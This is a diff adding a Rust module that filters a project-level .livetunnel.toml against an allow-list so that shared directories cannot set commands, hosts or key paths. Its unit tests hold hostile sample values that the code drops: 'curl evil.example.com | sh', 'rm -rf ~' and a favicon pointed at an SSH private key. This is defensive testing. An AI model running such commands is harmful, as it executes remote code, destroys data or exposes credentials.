@@ -0,0 +1,254 @@
+use std::{
+    env::var_os,
+    fs::read_to_string,
+    path::{Path, PathBuf},
+};
+
+use serde::{de::DeserializeOwned, Serialize};
+use toml::{value::Table, Value};
+
+pub const PROJECT_CONFIG_FILE: &str = ".livetunnel.toml";
+
+/// What a project config may set, whole tables or single keys of them (`serve.banner`). Anyone
+/// who can write to a shared directory (or e.g. `/tmp` for scratch shares) can put one there, so
+/// nothing that runs commands, picks the host, keys or credentials, writes or serves other local
+/// files or opens the share further. Only the user's config sets those.
+const PROJECT_KEYS: &[&str] = &[
+    "local_port",
+    "remote_port",
+    "qr_code",
+    "desktop_notifications",
+    "duration",
+    "transfer_cap",
+    "check_share",
+    "upload_max_size",
+    "upload_folders",
+    "deploy_exclude",
+    "serve.http2",
+    "serve.max_request_body",
+    "serve.header_timeout",
+    "serve.idle_timeout",
+    "serve.max_connections_per_client",
+    "serve.idle_pause",
+    "serve.banner",
+    "serve.hashed_assets",
+    "serve.pretty_urls",
+    "serve.redirects_file",
+    "serve.challenge",
+    "serve.allowed_referrers",
+    "serve.login_page",
+    "serve.login_session",
+    "serve.schedule",
+    "serve.watermark",
+    "watch.paths",
+    "watch.debounce",
+    "watch.live_reload",
+];
+
+/// Finds the closest `.livetunnel.toml` in `directory` or its ancestors, up to the root of its
+/// git repository or the home directory. Outside of both only `directory` itself counts, e.g. a
+/// parent like `/tmp` is open to every user.
+pub fn find_project_config(directory: &Path) -> Option<PathBuf> {
+    let directory = directory.canonicalize().ok()?;
+    let home = var_os("HOME").and_then(|home| PathBuf::from(home).canonicalize().ok());
+    let depth = directory
+        .ancestors()
+        .position(|ancestor| ancestor.join(".git").exists() || Some(ancestor) == home.as_deref())
+        .unwrap_or(0);
+    directory
+        .ancestors()
+        .take(depth + 1)
+        .map(|ancestor| ancestor.join(PROJECT_CONFIG_FILE))
+        .find(|candidate| candidate.is_file())
+}
+
+/// Overlays the keys of [`PROJECT_KEYS`] set in the project config file on top of `config`,
+/// with the ones it left out (e.g. `before_commands`, `serve.favicon`).
+///
+/// Tables are merged key by key, everything else (including lists) is replaced.
+pub fn apply_project_config<T: Serialize + DeserializeOwned>(
+    config: &T,
+    path: &Path,
+) -> Result<(T, Vec<String>), String> {
+    let project: Value = read_to_string(path)
+        .map_err(|err| err.to_string())?
+        .parse()
+        .map_err(|err: toml::de::Error| err.to_string())?;
+    let Value::Table(project) = project else {
+        return Err(String::from("it's not a TOML table"));
+    };
+    let mut ignored = Vec::new();
+    let project = allowed(project, "", &mut ignored);
+
+    let mut merged = Value::try_from(config).map_err(|err| err.to_string())?;
+    merge(&mut merged, Value::Table(project));
+
+    Ok((merged.try_into().map_err(|err| err.to_string())?, ignored))
+}
+
+// The keys of `table` (at `prefix`) in PROJECT_KEYS, the others are added to `ignored`:
+fn allowed(table: Table, prefix: &str, ignored: &mut Vec<String>) -> Table {
+    let mut kept = Table::new();
+    for (key, value) in table {
+        let path = format!("{}{}", prefix, key);
+        let nested = format!("{}.", path);
+        if PROJECT_KEYS.contains(&path.as_str()) {
+            kept.insert(key, value);
+        } else if let (Value::Table(table), true) = (
+            value,
+            PROJECT_KEYS
+                .iter()
+                .any(|allowed| allowed.starts_with(&nested)),
+        ) {
+            kept.insert(key, Value::Table(allowed(table, &nested, ignored)));
+        } else {
+            ignored.push(path);
+        }
+    }
+    kept
+}
+
+fn merge(base: &mut Value, overlay: Value) {
+    match (base, overlay) {
+        (Value::Table(base), Value::Table(overlay)) => {
+            for (key, value) in overlay {
+                match base.get_mut(&key) {
+                    Some(existing) => merge(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, overlay) => *base = overlay,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn table(toml: &str) -> Table {
+        toml::from_str(toml).unwrap()
+    }
+
+    #[test]
+    fn only_allowed_keys_are_taken() {
+        let mut ignored = Vec::new();
+        let kept = allowed(
+            table(
+                r#"
+                local_port = 3000
+                host = "evil.example.com"
+                before_commands = ["curl evil.example.com | sh"]
+                [serve]
+                banner = "Preview"
+                favicon = "~/.ssh/id_ed25519"
+                [serve.watermark]
+                text = "Draft"
+                [watch]
+                command = "rm -rf ~"
+                debounce = 500
+                "#,
+            ),
+            "",
+            &mut ignored,
+        );
+
+        assert_eq!(
+            kept,
+            table(
+                r#"
+                local_port = 3000
+                [serve]
+                banner = "Preview"
+                [serve.watermark]
+                text = "Draft"
+                [watch]
+                debounce = 500
+                "#
+            )
+        );
+        ignored.sort();
+        assert_eq!(
+            ignored,
+            ["before_commands", "host", "serve.favicon", "watch.command"]
+        );
+    }
+
+    #[test]
+    fn a_table_in_place_of_a_key_is_ignored() {
+        let mut ignored = Vec::new();
+        let kept = allowed(table("[local_port]\nx = 1\n[host]\n"), "", &mut ignored);
+        assert_eq!(kept, table("[local_port]\nx = 1\n"));
+        assert_eq!(ignored, ["host"]);
+    }
+
+    #[test]
+    fn the_search_stops_at_the_repository() {
+        let root = std::env::temp_dir().join(format!("livetunnel-project-{}", std::process::id()));
+        let repository = root.join("repository");
+        let site = repository.join("site");
+        std::fs::create_dir_all(site.join("nested")).unwrap();
+        std::fs::create_dir(repository.join(".git")).unwrap();
+        std::fs::write(root.join(PROJECT_CONFIG_FILE), "").unwrap();
+
+        let found = |directory: &Path| find_project_config(directory);
+        assert_eq!(found(&site.join("nested")), None);
+        std::fs::write(repository.join(PROJECT_CONFIG_FILE), "").unwrap();
+        assert_eq!(
+            found(&site.join("nested")),
+            Some(repository.canonicalize().unwrap().join(PROJECT_CONFIG_FILE))
+        );
+        // Outside of a repository only the directory itself counts, not e.g. a shared parent:
+        std::fs::create_dir(root.join("elsewhere")).unwrap();
+        assert_eq!(found(&root.join("elsewhere")), None);
+
+        std::fs::remove_dir_all(root).unwrap();
+    }
+
+    #[test]
+    fn the_project_overlays_tables_key_by_key() {
+        let user: Value = toml::from_str(
+            r#"
+            host = "me.example.com"
+            local_port = 8080
+            deploy_exclude = ["target", ".git"]
+            [serve]
+            http2 = true
+            banner = "Mine"
+            "#,
+        )
+        .unwrap();
+        let path =
+            std::env::temp_dir().join(format!("livetunnel-overlay-{}.toml", std::process::id()));
+        std::fs::write(
+            &path,
+            r#"
+            host = "attacker.example.com"
+            local_port = 4000
+            deploy_exclude = ["node_modules"]
+            [serve]
+            banner = "Preview of the redesign"
+            "#,
+        )
+        .unwrap();
+
+        let (merged, ignored) = apply_project_config(&user, &path).unwrap();
+        std::fs::remove_file(&path).unwrap();
+        assert_eq!(merged["host"].as_str(), Some("me.example.com"));
+        assert_eq!(merged["local_port"].as_integer(), Some(4000));
+        assert_eq!(
+            merged["deploy_exclude"].as_array().unwrap(),
+            &[Value::from("node_modules")]
+        );
+        assert_eq!(merged["serve"]["http2"].as_bool(), Some(true));
+        assert_eq!(
+            merged["serve"]["banner"].as_str(),
+            Some("Preview of the redesign")
+        );
+        assert_eq!(ignored, ["host"]);
+
+        assert!(apply_project_config(&user, Path::new("/nonexistent/.livetunnel.toml")).is_err());
+    }
+}